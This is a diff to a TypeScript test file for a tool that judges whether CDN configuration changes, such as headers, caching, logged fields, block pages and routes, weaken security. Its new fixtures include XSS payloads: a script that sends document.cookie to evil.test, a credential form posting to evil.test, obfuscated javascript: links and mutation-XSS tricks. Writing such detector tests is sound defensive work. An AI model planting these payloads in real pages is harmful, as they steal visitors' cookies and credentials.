@@ -141,6 +141,11 @@ const header = (name: string, value?: string): JsonObject => ({
     [name]: value === undefined ? { operation: 'remove' } : { operation: 'set', value },
   },
 });
+const added = (name: string, value: string): JsonObject => ({
+  headers: { [name]: { operation: 'add', value } },
+});
+const RUNS = 'by which browsers may run what was only text';
+const CROSS_DOMAIN = 'x-permitted-cross-domain-policies';
 const CSP = 'content-security-policy';
 const poor = (name: string): Expected => [
   'weakens',
@@ -199,6 +204,74 @@ describe('response headers', () => {
     ],
     [null, header('Set-Cookie', 'a=1'), ['weakens', 'adds the header set-cookie, which steers browsers']],
     [null, header('X-Robots-Tag', 'noindex'), 'neutral'],
+    [null, header('Content-Type', 'text/html'), ['weakens', `adds the header content-type, ${RUNS}`]],
+    [null, header('Content-Type', 'text/plain; charset=utf-8'), 'neutral'],
+    [
+      header('Content-Type', 'text/plain'),
+      header('Content-Type', 'image/svg+xml'),
+      ['weakens', `adds the header content-type, ${RUNS}`],
+    ],
+    [
+      null,
+      header('Content-Disposition', 'attachment'),
+      ['strengthens', 'adds the header content-disposition'],
+    ],
+    [null, header('Content-Disposition'), ['weakens', 'adds the removal of the header content-disposition']],
+    [
+      null,
+      header('X-Permitted-Cross-Domain-Policies', 'none'),
+      ['strengthens', `adds the header ${CROSS_DOMAIN}`],
+    ],
+    [null, header('X-Permitted-Cross-Domain-Policies', 'all'), poor(CROSS_DOMAIN)],
+    [
+      null,
+      header('Service-Worker-Allowed', '/'),
+      ['weakens', 'adds the header service-worker-allowed, by which scripts may reach further'],
+    ],
+    [
+      null,
+      header('Link', '</a.css>; rel=stylesheet'),
+      ['weakens', 'adds the header link, by which pages may load what others made'],
+    ],
+    [
+      null,
+      header('Link', '</a.css>; rel=preload; as=style, <https://shop.example/>; rel="canonical"'),
+      'neutral',
+    ],
+    [
+      null,
+      header('Clear-Site-Data', '"*"'),
+      ['weakens', 'adds the header clear-site-data, which steers browsers'],
+    ],
+    [null, header('Cache-Control', 'private, no-store'), ['strengthens', 'adds the header cache-control']],
+    [
+      null,
+      header('Cache-Control', 'public, max-age=60'),
+      ['weakens', 'adds the header cache-control, by which caches may keep pages of one visitor for others'],
+    ],
+    [null, added('X-Frame-Options', 'DENY'), poor('x-frame-options')],
+    [null, added(CSP, 'default-src *'), 'neutral'],
+    [null, added(CSP, "default-src 'self'"), ['strengthens', `adds the header ${CSP}`]],
+    [
+      null,
+      {
+        headers: {
+          'X-Frame-Options': { operation: 'set', value: 'DENY' },
+          'x-frame-options': { operation: 'remove' },
+        },
+      },
+      ['weakens', 'adds the header x-frame-options twice, of which either may count'],
+    ],
+    [
+      null,
+      { headers: { 'X-Debug': { operation: 'set', expression: 'concat("c=", http.cookie)' } } },
+      ['weakens', 'adds the header x-debug, which shows scripts the credentials of the request'],
+    ],
+    [
+      null,
+      { headers: { 'X-Ray': { operation: 'set', expression: 'http.request.headers["cf-ray"][0]' } } },
+      'neutral',
+    ],
     [header('Server', 'a'), header('Server'), 'neutral'],
     [null, header('Authorization', 'a'), 'neutral'],
   ]);
@@ -221,7 +294,55 @@ describe('request headers', () => {
       ['weakens', 'changes the request header x-origin-auth'],
     ],
     [null, header('X-Remote-User'), ['strengthens', 'adds the removal of the request header x-remote-user']],
-    [null, header('X-Country', 'DE'), 'neutral'],
+    ...['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Prefix', 'X-Envoy-Original-Path'].map((name): Row => [
+      null,
+      header(name, '/public'),
+      [
+        'weakens',
+        `adds the request header ${name.toLowerCase()}, by which the origin may serve another page`,
+      ],
+    ]),
+    [
+      null,
+      header('X-Original-URL'),
+      ['strengthens', 'adds the removal of the request header x-original-url'],
+    ],
+    ...['Forwarded', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Remote-Addr', 'Via', 'CF-Visitor'].map(
+      (name): Row => [
+        null,
+        header(name, 'a'),
+        [
+          'weakens',
+          `adds the request header ${name.toLowerCase()}, which tells the origin who asks, and how`,
+        ],
+      ],
+    ),
+    [null, header('X-Forwarded-For'), ['weakens', 'adds the removal of the request header x-forwarded-for']],
+    [
+      null,
+      header('X-HTTP-Method-Override', 'DELETE'),
+      [
+        'weakens',
+        'adds the request header x-http-method-override, by which the origin may take another method',
+      ],
+    ],
+    [null, header('Origin'), ['weakens', 'adds the removal of the request header origin']],
+    ...['X-Tenant-Id', 'X-Impersonate-User', 'X-Goog-IAP-JWT-Assertion', 'X-Forwarded-Client-Cert'].map(
+      (name): Row => [
+        null,
+        header(name, 'a'),
+        ['weakens', `adds the request header ${name.toLowerCase()}, which the origin may trust`],
+      ],
+    ),
+    ...[
+      'X-Country',
+      'X-Request-Id',
+      'Accept-Language',
+      'User-Agent',
+      'X-Device',
+      'X-Served-By',
+      'Baggage',
+    ].map((name): Row => [null, header(name, 'a'), 'neutral']),
     [null, header('Exposed-Credential-Check', '1'), 'neutral'],
     [header('X-User-Agent', 'a'), header('X-User-Agent', 'b'), 'neutral'],
     [null, header('X-Frame-Options'), 'neutral'],
@@ -250,6 +371,7 @@ describe('settings', () => {
 });
 
 const SHARED = 'caching, by which visitors may get pages of others';
+const OVERRIDE = 'a time in the cache that overrides what the origin says, even `private`';
 const key = (custom_key: JsonObject): JsonObject => ({
   cache_key: { custom_key },
 });
@@ -264,11 +386,7 @@ describe('caching', () => {
     [{ cache: true }, null, ['strengthens', `removes ${SHARED}`]],
     [null, { cache: false }, ['strengthens', 'adds a cache bypass']],
     [{ cache: false }, { cache: true }, ['weakens', 'changes cache from false to true']],
-    [
-      { cache: true },
-      { cache: true, edge_ttl: override(60) },
-      ['weakens', 'adds edge_ttl.mode override_origin'],
-    ],
+    [{ cache: true }, { cache: true, edge_ttl: override(60) }, ['weakens', `adds ${OVERRIDE}`]],
     [{ cache: true, edge_ttl: override(60) }, { cache: true, edge_ttl: override(90) }, 'neutral'],
     [
       { cache: true },
@@ -287,11 +405,21 @@ describe('caching', () => {
         edge_ttl: {
           status_code_ttl: [
             { status_code: 404, value: 60 },
-            { status_code: 200, value: 0 },
+            { status_code: 500, value: 0 },
           ],
         },
       },
       'neutral',
+    ],
+    [
+      { edge_ttl: { status_code_ttl: [{ status_code: 200, value: -1 }] } },
+      { edge_ttl: { status_code_ttl: [{ status_code: 404, value: -1 }] } },
+      ['weakens', 'removes a cache bypass for status 200'],
+    ],
+    [
+      { edge_ttl: { status_code_ttl: [{ status_code: 200, value: -1 }] } },
+      { edge_ttl: { status_code_ttl: [{ status_code: 200, value: 60 }] } },
+      ['weakens', 'changes edge_ttl.status_code_ttl status 200 from false to true'],
     ],
     [
       { cache: true },
@@ -301,7 +429,7 @@ describe('caching', () => {
           status_code_ttl: [{ status_code_range: { to: 399 }, value: 60 }],
         },
       },
-      ['weakens', 'adds edge_ttl.status_code_ttl for pages'],
+      ['weakens', 'adds a time in the cache for status 100 to 399, whatever the origin says'],
     ],
     [
       key({ cookie: { include: ['session'] } }),
@@ -349,7 +477,15 @@ describe('caching of files that are cached by default', () => {
     'http_request_cache_settings',
     'set_cache_settings',
     [
-      [null, { cache: true, edge_ttl: override(60) }, 'neutral'],
+      [null, { cache: true }, 'neutral'],
+      [null, { cache: true, edge_ttl: override(60) }, ['weakens', `adds ${OVERRIDE}`]],
+      [{ cache: false }, { cache: false, edge_ttl: override(60) }, 'neutral'],
+      [
+        null,
+        { edge_ttl: { status_code_ttl: [{ status_code: 302, value: 60 }] } },
+        ['weakens', 'adds a time in the cache for status 302, whatever the origin says'],
+      ],
+      [null, { strip_set_cookie: true }, ['weakens', 'adds strip_set_cookie true']],
       [null, key({ query_string: { exclude: '*' } }), 'neutral'],
       [{ cache: false }, { cache: true }, ['weakens', 'changes cache from false to true']],
     ],
@@ -378,6 +514,35 @@ describe('logged fields', () => {
       { request_fields: [{ name: 'authorization' }] },
       ['weakens', 'adds the header authorization in logs'],
     ],
+    ...[
+      'proxy-authorization',
+      'cookie',
+      'x-api-key',
+      'x-amz-security-token',
+      'cf-access-client-secret',
+      'x-auth-user',
+      'x-goog-iap-jwt-assertion',
+      'x-csrftoken',
+      'ocp-apim-subscription-key',
+      'private-token',
+      'x-session-id',
+      'dpop',
+    ].map((name): Row => [
+      null,
+      { request_fields: [{ name }] },
+      ['weakens', `adds the header ${name} in logs`],
+    ]),
+    ...[
+      'user-agent',
+      'x-author',
+      'x-request-id',
+      'www-authenticate',
+      'x-ratelimit-remaining-tokens',
+      'idempotency-key',
+      'surrogate-key',
+      'sec-websocket-key',
+      'x-keyword',
+    ].map((name): Row => [null, { request_fields: [{ name }] }, 'neutral']),
     [null, { cookie_fields: [{ name: 'a' }] }, ['weakens', 'adds the cookie a in logs']],
     [
       { cookie_fields: [{ name: 'a' }] },
@@ -387,11 +552,82 @@ describe('logged fields', () => {
   ]);
 });
 
+/** Html that does nothing but show itself, as many block pages are. */
+const PLAIN_PAGE = `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>Blocked</title><meta name="viewport" content="width=device-width">
+<link rel="icon" href="/icon.png"><style>body { font: 1em sans-serif; background: url(/a.png) }</style></head>
+<!-- Ray ::RAY_ID:: -->
+<body><h1 class="big">Sorry</h1><p style="color: red">Ask <a href="mailto:help@shop.example">us</a> or
+<a href="https://status.example/a?b=1&amp;c">look here</a>.<br/><img src="https://www.shop.example/a.png" alt=""></p></body></html>`;
+const MAY_RUN = ['weakens', 'adds a page of the zone with content that browsers may run'] as const;
+const page = (content: string, content_type = 'text/html'): JsonObject => ({
+  response: { status_code: 403, content_type, content },
+});
+const ACTING: readonly (readonly [html: string, what: string])[] = [
+  ["<script>fetch('https://evil.test/' + document.cookie)</script>", 'a script'],
+  ['<ScRiPt src=https://evil.test/a.js></script>', 'a script'],
+  ['<form action="https://evil.test/"><input name=password></form>', 'a form'],
+  ['<iframe src="/account"></iframe>', 'a frame'],
+  ['<object data="/a"></object>', 'a frame'],
+  ['<meta http-equiv="refresh" content="0; url=https://evil.test/">', 'a jump to another page'],
+  ['<p onclick="a()">', 'an event handler'],
+  ['<img src="/a.png" onerror=a()>', 'an event handler'],
+  ['<a href=" javascript:a()">x</a>', 'a link that browsers may run'],
+  ['<a href="java&#115;cript:a()">x</a>', 'a link that browsers may run'],
+  ['<img src="https://evil.test/a.png">', 'resources of evil.test'],
+  ['<img src="//evil.test/a.png">', 'resources of evil.test'],
+  ['<link rel=stylesheet href=https://cdn.test/a.css>', 'resources of cdn.test'],
+  ['<style>@import "https://evil.test/a.css";</style>', 'html that is not understood'],
+  ['<p style="background: url(https://evil.test/a)">', 'resources of evil.test'],
+  ['<base href="https://evil.test/">', 'another base of its addresses'],
+  ['<svg><animate attributeName=href values=javascript:a() /></svg>', 'html that is not understood'],
+  ['<math><mtext></mtext></math>', 'html that is not understood'],
+  ['<p <script>a()</script>', 'html that is not understood'],
+  ['<!--><script>a()</script>-->', 'html that is not understood'],
+  ['<p title="a>', 'html that is not understood'],
+];
+
+describe('pages that visitors get', () => {
+  judges('http_request_firewall_custom', 'block', [
+    ...ACTING.map(([html, what]): Row => [
+      page('No'),
+      page(html),
+      ['weakens', `adds a page of the zone with ${what}`],
+    ]),
+    [page('No'), page(PLAIN_PAGE), 'neutral'],
+    [page('No'), page('<script>a()</script>', 'text/plain'), 'neutral'],
+    [page('No'), page('{"a":"<script>"}', 'application/problem+json; charset=utf-8'), 'neutral'],
+    [page('No'), page('<error><code>1</code></error>', 'text/xml'), 'neutral'],
+    [page('No'), page('<html xmlns="http://www.w3.org/1999/xhtml"/>', 'text/xml'), MAY_RUN],
+    [
+      page('No'),
+      page('<script>a()</script>', 'unknown/unknown'),
+      ['weakens', 'adds a page of the zone with a script'],
+    ],
+    [page('<script>a()</script>'), page('No'), ['strengthens', 'removes a page of the zone with a script']],
+    [
+      page('<script>a()</script>'),
+      page('<script>b()</script><form></form>'),
+      ['weakens', 'shows another page with a script, a form'],
+    ],
+  ]);
+  judges('http_custom_errors', 'serve_error', [
+    [null, { content: '<script>a()</script>' }, ['weakens', 'adds a page of the zone with a script']],
+    [null, { content: '<script>a()</script>', content_type: 'text/plain' }, 'neutral'],
+    [null, { content: PLAIN_PAGE, content_type: 'text/html' }, 'neutral'],
+    [{ asset_name: 'a' }, { asset_name: 'b' }, ['weakens', 'shows another error page']],
+  ]);
+});
+
 describe('routes', () => {
   judges('http_request_origin', 'route', [
     [null, { origin: { host: 'b.example' } }, ['weakens', 'adds a route to another host']],
     [{ host_header: 'a' }, { host_header: 'b' }, ['weakens', 'sends requests to another host']],
-    [{ origin: { port: 1 } }, { origin: { port: 2 } }, 'neutral'],
+    [
+      { origin: { port: 1 } },
+      { origin: { port: 2 } },
+      ['weakens', 'sends requests to another port of the origin'],
+    ],
   ]);
 });
 
